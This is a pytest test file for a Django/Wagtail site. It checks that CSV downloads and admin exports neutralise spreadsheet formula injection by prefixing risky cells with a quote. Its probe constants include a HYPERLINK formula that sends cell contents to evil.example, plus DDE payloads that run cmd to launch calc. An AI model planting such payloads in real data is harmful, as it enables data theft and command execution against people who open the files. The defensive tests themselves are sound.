"""Every CSV the site or its admin writes: a text cell a spreadsheet would run as a formula
(`=`, `+`, `-`, `@`, tab, carriage return) is prefixed with `'`; numbers stay numbers."""

import csv
import io

from django.utils import timezone

import pytest

from statistics.csv_cells import safe_cell
from tests.factories import ArticlePageFactory, FigureFactory, MeasureFactory, SourceFactory

pytestmark = pytest.mark.django_db

# The probes of issue 20: what an attacker typed into a source, a title, a measure, a unit.
PUBLISHER = '=HYPERLINK("http://evil.example/?"&A2,"Click for details")'
TITLE = "+cmd|' /C calc'!A0"
MEASURE = "-2+3+cmd|' /C calc'!A0"
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows(response):
    content = response.getvalue() if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Wiltshire Police", "Wiltshire Police"),
        ("2019/20", "2019/20"),
        (-18, -18),
        (63, 63),
        ("", ""),
    ],
)
def test_the_rule(value, written):
    assert safe_cell(value) == written


def test_the_measure_download_neutralises_every_typed_field(client, wiltshire):
    source = SourceFactory(publisher=PUBLISHER, title=TITLE, url="https://example.org/")
    measure = MeasureFactory(name=MEASURE, slug="probe", unit=UNIT)
    FigureFactory(measure=measure, force=wiltshire, period="2018/19", value=77, source=source)
    FigureFactory(measure=measure, force=wiltshire, period="2019/20", value=63, source=source)
    found = rows(client.get("/statistics/probe.csv"))
    assert [row["source_publisher"] for row in found] == ["'" + PUBLISHER] * 2
    assert {row["source_title"] for row in found} == {"'" + TITLE}
    assert {row["measure"] for row in found} == {"'" + MEASURE}
    assert {row["unit"] for row in found} == {"'" + UNIT}
    # A fall is a negative number, written as a number: a spreadsheet reads -18.
    assert found[1]["change_percent"] == "-18"
    # The JSON is data, not a spreadsheet: it keeps what was typed.
    assert client.get("/statistics/probe.json").getvalue().decode().count(MEASURE) == 1


@pytest.mark.parametrize(
    "url",
    [
        "/admin/reports/site-history/?export=csv",
        "/admin/reports/locked/?export=csv",
    ],
)
def test_admin_csv_exports_neutralise_a_page_title(admin_client, admin_user, news_index, url):
    """Wagtail's own exports, through `newsroom.spreadsheet_exports`: this fails if Wagtail
    stops exporting through the method it wraps."""
    story = ArticlePageFactory(parent=news_index, title=TITLE)
    story.locked, story.locked_by, story.locked_at = True, admin_user, timezone.now()
    story.save(update_fields=["locked", "locked_by", "locked_at"])
    response = admin_client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.getvalue().decode())) for cell in row]
    assert "'" + TITLE in cells
    assert TITLE not in cells
